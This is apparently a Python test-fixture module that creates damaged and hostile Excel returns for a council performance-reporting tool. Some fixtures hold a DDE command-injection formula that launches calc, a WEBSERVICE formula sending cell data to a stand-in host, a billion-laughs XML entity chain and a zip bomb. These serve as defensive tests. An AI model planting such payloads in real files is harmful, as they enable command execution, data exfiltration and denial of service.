"""Issued workbooks filled in and then damaged, one way at a time."""

from __future__ import annotations

from email.message import EmailMessage
from io import BytesIO
from pathlib import Path
from typing import TYPE_CHECKING, TypeAlias

from openpyxl import Workbook, load_workbook
from strangers import parts_of, zipped
from town import PARKS_ANSWERS, Q1, fill

from plansheet.pages import column_letters

if TYPE_CHECKING:
    from collections.abc import Callable

    from openpyxl.worksheet.worksheet import Worksheet
    from town import Answers

    Change: TypeAlias = Callable[[Workbook], object]

ISSUED = Path(__file__).parent / "data" / "returns" / "issued"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
BOMB_BYTES = 230 * 1024 * 1024


def filled(
    *changes: Change,
    answers: Answers = PARKS_ANSWERS,
    service: str = "parks",
    period: str = Q1,
) -> bytes:
    """Return an issued workbook as somebody filled it in, and what else was done to it."""
    book = load_workbook(ISSUED / f"{service} {period}.xlsx")
    for sheet, rows in answers.items():
        fill(book[sheet], rows)
    for change in changes:
        change(book)
    stream = BytesIO()
    book.save(stream)
    return stream.getvalue()


def answering(value: object, heading: str = "Actual", ref: str = "PK01") -> bytes:
    """Return a return with something in one cell of Indicators."""
    indicators = {**PARKS_ANSWERS["Indicators"]}
    indicators[ref] = {**indicators.get(ref, {}), heading: value}
    return filled(answers={**PARKS_ANSWERS, "Indicators": indicators})


def cell_of(sheet: Worksheet, ref: str, heading: str) -> str:
    """Return the address of a cell by its row and its heading."""
    header = next(row for row in sheet.iter_rows() if row[0].value == "Ref")
    column = next(place for place, each in enumerate(header, 1) if _plain(each.value) == heading)
    row = next(each for each in sheet.iter_rows() if each[0].value == ref)
    return f"{column_letters(column)}{row[0].row}"


def _plain(heading: object) -> str:
    return str(heading).rstrip("*")


def changed(part: str, old: str, new: str, data: bytes = b"") -> bytes:
    """Return a return with a piece of one of its parts replaced."""
    parts = parts_of(data or filled())
    assert old.encode() in parts[part], (part, old)
    parts[part] = parts[part].replace(old.encode(), new.encode(), 1)
    return zipped(parts.items())


INDICATORS = "xl/worksheets/sheet2.xml"


def with_parts(*more: tuple[str, bytes]) -> bytes:
    """Return a return with some parts more."""
    return zipped([*parts_of(filled()).items(), *more])


def without(part: str) -> bytes:
    """Return a return that lacks a part."""
    return zipped((name, data) for name, data in parts_of(filled()).items() if name != part)


def lose_sheet(book: Workbook) -> None:
    book.remove(book["_plansheet"])


def lose_properties(book: Workbook) -> None:
    vars(book)["custom_doc_props"].props.clear()


def sort_rows(book: Workbook) -> None:
    sheet = book["Indicators"]
    rows = {row[0].value: row for row in sheet.iter_rows() if row[0].value in {"PK01", "PK02"}}
    for one, other in zip(rows["PK01"], rows["PK02"], strict=True):
        one.value, other.value = other.value, one.value
        one.number_format, other.number_format = other.number_format, one.number_format


def unlock(book: Workbook) -> None:
    for sheet in book:
        sheet.protection.sheet = False


def rename(book: Workbook) -> None:
    book["Indicators"].title = "Our figures"


def insert(book: Workbook) -> None:
    book["Indicators"].insert_rows(1, 3)


def lower_the_target(book: Workbook) -> None:
    sheet = book["Indicators"]
    sheet[cell_of(sheet, "PK01", "Target this year")].value = "50%"


def copy_a_sheet(book: Workbook) -> None:
    book.copy_worksheet(book["Indicators"])


def in_actual(stored: str) -> bytes:
    """Return a return whose first figure is stored as `stored` says, bytes of markup."""
    data = filled()
    place = cell_of(load_workbook(BytesIO(data))["Indicators"], "PK01", "Actual")
    part = parts_of(data)[INDICATORS].decode()
    start = part.index(f'<c r="{place}"')
    end = part.index("</c>", start) + len("</c>")
    style = part[start:end].partition(' s="')[2].partition('"')[0]
    place_and_style = f'{place}" s="{style}'
    return changed(INDICATORS, part[start:end], stored.replace("PLACE", place_and_style), data)


def strangers_formulas(book: Workbook) -> None:
    """Put in what would run, fetch or call, had it been opened by a program that obeys."""
    sheet = book["Indicators"]
    for ref, heading, text in (
        ("PK01", "Commentary", "=cmd|'/c calc'!A0"),
        ("PK01", "Action", '=WEBSERVICE("http://council.example/?x="&A1)'),
        ("PK01", "Owner", '=HYPERLINK("http://council.example","me")'),
        ("PK02", "Commentary", "='[1]Other book'!A1"),
    ):
        sheet[cell_of(sheet, ref, heading)].value = text


def as_text_of_strangers(book: Workbook) -> None:
    """Put in the same as plain text, which must never become a formula anywhere."""
    sheet = book["Indicators"]
    for heading, text in (
        ("Commentary", "=cmd|'/c calc'!A0"),
        ("Action", "+1+cmd|'/c calc'!A0"),
        ("Owner", "@SUM(A1)"),
    ):
        cell = sheet[cell_of(sheet, "PK01", heading)]
        cell.value, cell.data_type = text, "s"


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(9))
BLANK_ROWS = "".join(f'<row r="{row}"><c r="A{row}" s="1"/></row>' for row in range(2000, 5000))
FAR = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def bomb() -> bytes:
    """Return a zip of a kilobyte or two: a workbook that unpacks to more than a return may."""
    content = f"<worksheet {MAIN}>".encode() + b" " * BOMB_BYTES
    return zipped([("parks.xlsx", with_parts_in_place(INDICATORS, content))])


def with_parts_in_place(part: str, content: bytes) -> bytes:
    """Return a return with another part in the place of one."""
    return zipped((parts_of(filled()) | {part: content}).items())


def other_workbook() -> bytes:
    stream = BytesIO()
    Workbook().save(stream)
    return stream.getvalue()


def html_mail() -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "head.of.parks@council.example", "performance@council.example"
    message.set_content("<p>See <a href='https://council.example'>the link</a></p>", subtype="html")
    return message.as_bytes()


def numbers() -> bytes:
    return zipped([("Index/Document.iwa", b"\0"), ("preview.jpg", b"\xff\xd8\xff")])


def word() -> bytes:
    return zipped([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<document/>")])
